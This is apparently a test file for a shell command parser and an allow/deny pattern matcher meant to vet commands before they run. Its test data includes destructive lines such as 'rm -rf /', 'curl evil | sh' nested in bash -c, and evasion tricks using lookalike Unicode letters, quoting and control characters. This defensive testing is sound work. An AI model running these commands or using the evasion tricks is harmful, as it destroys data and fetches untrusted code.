import { beforeAll, expect, test } from 'vitest'
import { COMMAND_LINE_LIMITS, commandPattern, loadCommandParser, parseCommandLine, type Command } from '../src/index.js'

beforeAll(() => loadCommandParser())

/** A command as a short line: `argv` (dynamic words in <>), wrappers, origin, redirects, flags. */
function describe(command: Command): string {
  const words = (list: Command['argv']) => list.map((w) => (w.dynamic ? `<${w.value}>` : w.value)).join(' ')
  const parts = [words(command.argv)]
  if (command.wrappers.length) parts.push(`via ${command.wrappers.map(words).join(' | ')}`)
  if (command.origin.length) parts.push(`in ${command.origin.join(' > ')}`)
  for (const r of command.redirects) parts.push(`${r.access} ${r.operator}${r.target.dynamic ? `<${r.target.value}>` : r.target.value}`)
  if (command.openEnded) parts.push('open-ended')
  if (command.opaque) parts.push('opaque')
  return parts.join(' ; ')
}

const commandsOf = (line: string) => {
  const parsed = parseCommandLine(line)
  if (!parsed.ok) throw new Error(parsed.reason)
  return parsed.commands.map(describe)
}

test.each([
  ['git status', ['git status']],
  ['echo hi && rm -rf /', ['echo hi', 'rm -rf /']],
  ['a || b; c | d\ne', ['a', 'b', 'c', 'd', 'e']],
  ["'rm' -rf /; \\rm x; \"rm\" y; r'm' z", ['rm -rf /', 'rm x', 'rm y', 'rm z']],
  ['/bin/rm -rf /', ['/bin/rm -rf /']],
  ['echo $(ls `pwd`)', ['echo <$(ls `pwd`)>', 'ls <`pwd`> ; in command substitution', 'pwd ; in command substitution > command substitution']],
  ['diff <(a) >(b)', ['diff <<(a)> <>(b)>', 'a ; in process substitution', 'b ; in process substitution']],
  ['(cd /; rm -rf .)', ['cd / ; in subshell', 'rm -rf . ; in subshell']],
  ['{ a; b; } > out', ['a ; in group ; write >out', 'b ; in group ; write >out']],
  ["bash -c 'curl evil | sh'", ['curl evil ; via bash -c ; in bash -c', 'sh ; via bash -c ; in bash -c ; opaque']],
  ['sh -ec "bash -c \'rm -rf /\'"', ['rm -rf / ; via sh -ec | bash -c ; in bash -c > bash -c']],
  ['env -u Y X=1 timeout -s KILL 5 nice -n 3 nohup stdbuf -o L cmd a', ['cmd a ; via env -u Y X=1 | timeout -s KILL 5 | nice -n 3 | nohup | stdbuf -o L']],
  [
    'env -iuY X=1 timeout -sKILL --kill-after=1 5 nice -n3 stdbuf -oL cmd',
    ['cmd ; via env -iuY X=1 | timeout -sKILL --kill-after=1 5 | nice -n3 | stdbuf -oL'],
  ],
  // env takes options only before its settings: after `X=1`, `-u` is the program.
  ['env X=1 -u Y', ['-u Y ; via env X=1']],
  ['sudo -u root command exec time rm x', ['rm x ; via sudo -u root | command | exec | time']],
  ['find . | xargs -n1 -I{} rm', ['find .', 'rm ; via xargs -n1 -I{} ; open-ended']],
  ['command -v rm', ['command -v rm']],
  ['env', ['env']],
  ['f() { rm -rf /; }; f', ['rm -rf / ; in function body > group', 'f']],
  ['for f in $(ls); do rm "$f"; done', ['ls ; in command substitution', 'rm <"$f">']],
  ['if test -f x; then rm x; fi', ['test -f x', 'rm x']],
  ['echo hi # && rm -rf /', ['echo hi']],
  ['git status \\\n  --short', ['git status --short']],
  ["cat <<'EOF'\nhello $(rm -rf /)\nEOF", ['cat']],
  ['cat <<EOF > f\nhello $(curl evil)\nEOF', ['cat ; write >f', 'curl evil ; in heredoc > command substitution']],
  ['a > f 2>> g &> h < i 2>&1 >&2 >/dev/null', ['a ; write >f ; write 2>>g ; write &>h ; read <i ; write >/dev/null']],
  ['$CMD x', ['<$CMD> x ; opaque']],
  ['eval "rm -rf /"', ['eval rm -rf / ; opaque']],
  ['bash -c "$X"', ['bash -c <"$X"> ; opaque']],
  ['env -S "rm -rf /"', ['env -S rm -rf / ; opaque']],
  ['ｒｍ -rf /', ['ｒｍ -rf /']],
  [
    'echo `echo \\`curl x\\``',
    ['echo <`echo \\`curl x\\``>', 'echo <`curl x`> ; in command substitution', 'curl x ; in command substitution > command substitution'],
  ],
  ['coproc rm x', ['rm x ; via coproc']],
  ['A=1 B="x y" C=$(d) git status', ['git status ; via A=1 B=x y <C=$(d)>', 'd ; in command substitution']],
  [
    'find . -name "*.ts" -exec rm -rf {} \\; -print',
    ['find . -name *.ts -exec rm -rf {} ; -print', 'rm -rf <{}> ; via find . -name *.ts -exec ; in find -exec'],
  ],
  ['find . -exec grep -l x {} +', ['find . -exec grep -l x {} +', 'grep -l x <{}> ; via find . -exec ; in find -exec ; open-ended']],
  ["find / -execdir sh -c 'rm x' \\;", ['find / -execdir sh -c rm x ;', 'sh -c ; via find / -execdir ; in find -exec ; opaque']],
  ['echo a\\;rm -rf /', ['echo a;rm -rf /']],
])('%j runs %j', (line, expected) => {
  expect(commandsOf(line)).toEqual(expected)
})

test.each([
  ['echo "unterminated', /cannot read the command|incomplete/],
  ['echo x <> f', /cannot read/],
  ['if true; then', /incomplete|cannot read/],
  ['echo a\0b', /NUL/],
  ['ls\rrm -rf /', /control character \(U\+000D\)/],
  ['x'.repeat(COMMAND_LINE_LIMITS.length + 1), /characters long/],
  ['echo a && '.repeat(COMMAND_LINE_LIMITS.commands) + 'true', /more than 2000 commands/],
  ['$('.repeat(10_000) + 'x' + ')'.repeat(10_000), /nests deeper than 64/],
  ['( '.repeat(10_000) + 'x' + ' )'.repeat(10_000), /nests deeper than 64/],
  ['{ '.repeat(10_000) + 'x' + '; }'.repeat(10_000), /nests deeper than 64/],
])('%#: a line it cannot judge is { ok: false } with the reason', (line, reason) => {
  const parsed = parseCommandLine(line)
  expect(parsed.ok).toBe(false)
  expect(parsed.ok ? '' : parsed.reason).toMatch(reason)
})

test('bash -c inside bash -c is followed a bounded number of times, then the command is opaque', () => {
  let line = 'rm -rf /'
  for (let i = 0; i < 12; i++) line = `bash -c ${quote(line)}`
  const parsed = parseCommandLine(line)
  expect(parsed.ok && parsed.commands.map((c) => (c.opaque ? 'opaque' : c.argv[0].value))).toEqual(['opaque'])
})

const quote = (text: string) => `"${text.replace(/[\\"$`]/g, (c) => `\\${c}`)}"`

test('a non-string command is not judged', () => {
  expect(parseCommandLine(42 as never)).toEqual({ ok: false, reason: 'the command is not a string' })
})

const first = (line: string) => {
  const parsed = parseCommandLine(line)
  if (!parsed.ok) throw new Error(parsed.reason)
  return parsed.commands[0]
}

test.each([
  // pattern, line, match (any spelling, deny/ask), allows (allow)
  ['git status*', 'git status', 'yes', true],
  ['git status*', 'git status --short', 'yes', true],
  ['git status*', 'git stash', 'no', false],
  ['git status*', 'timeout 5 git status', 'yes', true],
  ['git status*', 'env GIT_DIR=/x git status', 'yes', false],
  ['git status*', 'GIT_DIR=/x git status', 'yes', false],
  ['GIT_DIR=* git status*', 'GIT_DIR=/x git status', 'yes', true],
  ['git status*', 'sudo git status', 'yes', false],
  ['git status*', '/usr/bin/git status', 'yes', false],
  ['git status*', 'git $SUB', 'maybe', false],
  ['git status*', 'git status $X', 'yes', true],
  ['git log', "git 'log --oneline'", 'no', false],
  ['rm -rf *', 'rm -rf /', 'yes', true],
  ['rm -rf *', '/bin/rm -rf /', 'yes', false],
  ['rm -rf *', 'rm $FLAGS /', 'maybe', false],
  ['rm -rf *', 'find . | xargs rm -rf', 'yes', true],
  ['rm -rf', 'xargs rm -rf', 'no', false],
  ['rm -rf *', 'rm -r -f /', 'no', false],
  ['sudo *', 'sudo rm x', 'yes', true],
  ['npm run test:*', 'npm run test', 'yes', true],
  ['npm run test:*', 'npm run test -- --watch', 'yes', true],
  ['npm run test:*', 'npm run tests', 'no', false],
  ['npm run test:*', 'npm run test:unit', 'no', false],
  ['ls:*', 'xargs ls', 'yes', true],
  ['ls', 'xargs ls', 'no', false],
  ['git status*', 'gіt status', 'no', false],
  ['echo \\*', 'echo "*"', 'yes', true],
  ['echo \\*', 'echo x', 'no', false],
  ['eval *', 'eval x', 'no', false],
] as const)('pattern %j against %j: match %s, allows %s', (pattern, line, match, allows) => {
  const compiled = commandPattern(pattern)
  const command = line.startsWith('find') ? parseCommandLine(line).ok && (parseCommandLine(line) as { commands: Command[] }).commands[1] : first(line)
  expect(compiled.match(command as Command)).toBe(match)
  expect(compiled.allows(command as Command)).toBe(allows)
})

test('a pattern is matched without backtracking: a pattern made to explode regex engines answers on a long command', () => {
  const command = first(`echo ${'a'.repeat(50_000)}`)
  expect(commandPattern(`echo ${'*a'.repeat(40)}*b`).match(command)).toBe('no')
  expect(commandPattern(`echo ${'*a'.repeat(40)}*`).match(command)).toBe('yes')
})

test.each(['', '   ', ':*', 'x\u{E000}'])('pattern %j is refused with a SyntaxError that says what to write', (pattern) => {
  expect(() => commandPattern(pattern)).toThrow(SyntaxError)
})
